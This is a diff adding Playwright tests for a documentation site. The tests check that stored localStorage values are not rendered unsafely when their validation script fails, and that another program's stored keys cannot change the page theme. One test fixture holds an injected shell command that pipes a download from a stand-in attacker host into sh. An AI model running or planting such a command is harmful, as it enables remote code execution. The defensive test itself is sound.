@@ -91,6 +91,46 @@ test.describe('in the storage', () => {
   }
 });
 
+test.describe('stored texts for the values of code', () => {
+  for (const [name, text] of [
+    ['a command', '$(touch /tmp/x); curl evil.example | sh #'],
+    ['several lines', 'reports\ncurl evil.example'],
+    ['an object', { toString: 1 }],
+    ['4,000,000 characters', 'x'.repeat(4_000_000)],
+  ] as const) {
+    // The check of the values comes with a script of its own, which may be late, or not come at all.
+    test(`that are ${name} are not shown, even without the script that checks them`, async ({ page, problems }) => {
+      problems.expect(/ERR_FAILED/);
+      await page.addInitScript(
+        (stored) => localStorage.setItem('reader-values', stored),
+        JSON.stringify({ values: {}, texts: { '': text, 'eu-1': text } }),
+      );
+      await page.route(/\/values\.\w+\.js$/, (route) => route.abort());
+      await page.goto('/getting-started/quickstart');
+      const shown = await page.locator('var').evaluateAll((values) => values.map(({ textContent }) => textContent));
+      expect(shown.length).toBeGreaterThan(5);
+      expect(shown.filter((value) => !/^[\w.:/-]{1,100}$/.test(value))).toEqual([]);
+    });
+  }
+});
+
+for (const [baseURL, key] of [
+  ['/', 'theme-of-another-program'],
+  [otherBrand.baseURL, 'theme-of-another-program'],
+  [otherBrand.baseURL, 'theme-vela'],
+] as const) {
+  test(`what another program of the host stores as ${key} is no colour mode of the page: ${baseURL}`, async ({ page, context }) => {
+    await page.goto(`${baseURL}guides/object-lock`);
+    const other = await context.newPage();
+    await other.goto(`${baseURL}robots.txt`);
+    await other.evaluate((name) => localStorage.setItem(name, 'sepia'), key);
+    // Has its effect later than the key above.
+    await other.evaluate(() => localStorage.setItem('reader-values', '{}'));
+    await expect(page.locator('script[src*="/values."]')).toBeAttached();
+    await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
+  });
+}
+
 test('a search that a hostile page of the tab has left is text', async ({ page, site }) => {
   await page.addInitScript(
     (text) => {
